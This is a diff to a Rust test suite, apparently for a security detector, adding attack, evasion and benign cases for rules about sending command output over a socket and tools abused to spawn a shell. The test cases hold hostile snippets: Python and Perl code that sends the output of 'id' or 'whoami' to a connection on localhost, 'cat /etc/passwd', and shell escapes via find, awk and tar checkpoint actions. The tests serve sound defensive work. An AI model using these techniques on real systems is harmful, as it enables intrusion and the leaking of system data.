@@ -213,6 +213,63 @@ subprocess.run(['/bin/sh', '-eu'], input=b'id -u')";
         })],
     },
     Case {
+        rule: "Command of the far side of a connection run",
+        attacks: &[
+            act("python", |s| {
+                let text = "import socket, subprocess, sys
+far = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
+far.sendall(subprocess.run('id', shell=True, capture_output=True).stdout)";
+                from_file(s, PYTHON, text)
+            }),
+            act("listening", |s| {
+                let file = s.file("listens.py");
+                let text = "import socket, subprocess
+near = socket.create_server(('127.0.0.1', 0))
+subprocess.run('cat /etc/passwd; id', shell=True, stdout=subprocess.DEVNULL)";
+                std::fs::write(&file, text).unwrap();
+                s.run(Command::new(PYTHON).arg(file))
+            }),
+        ],
+        evasions: &[act("without_a_shell", |s| {
+            let text = "use IO::Socket::INET;
+my $far = IO::Socket::INET->new(\"127.0.0.1:$ARGV[0]\") or die; print $far `whoami`;";
+            from_file(s, "/usr/bin/perl", text)
+        })],
+        benign: &[
+            act("another_command", |s| {
+                let text = "import socket, subprocess, sys
+far = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
+subprocess.run('id -u', shell=True); subprocess.run('uname -a', shell=True)";
+                from_file(s, PYTHON, text)
+            }),
+            act("no_connection", |s| {
+                let file = s.file("asks.py");
+                std::fs::write(&file, "import subprocess; subprocess.run('id', shell=True)").unwrap();
+                s.run(Command::new(PYTHON).arg(file))
+            }),
+        ],
+    },
+    Case {
+        rule: "Tool made to start a shell",
+        attacks: &[
+            act("find", |s| s.run(Command::new("find").args(["/dev/null", "-exec", "/bin/sh", ";"]))),
+            act("awk", |s| s.run(Command::new("awk").arg("BEGIN { system(\"/bin/sh\") }"))),
+        ],
+        evasions: &[act("at_a_checkpoint", |s| {
+            let file = s.file("a");
+            s.run(
+                Command::new("tar")
+                    .args(["-cf", "/dev/null", "--checkpoint=1", "--checkpoint-action=exec=sh -c :"])
+                    .arg("-C")
+                    .arg(file.parent().unwrap())
+                    .arg("a"),
+            )
+        })],
+        benign: &[act("command_for_each", |s| {
+            s.shell("find /dev/null -exec sh -c ': \"$1\"' sh {} \\; ; awk 'BEGIN { system(\"true\") }'", &[])
+        })],
+    },
+    Case {
         rule: "Shell fed by an interpreter",
         attacks: &[act("python", |s| {
             let file = s.file("feeds.py");
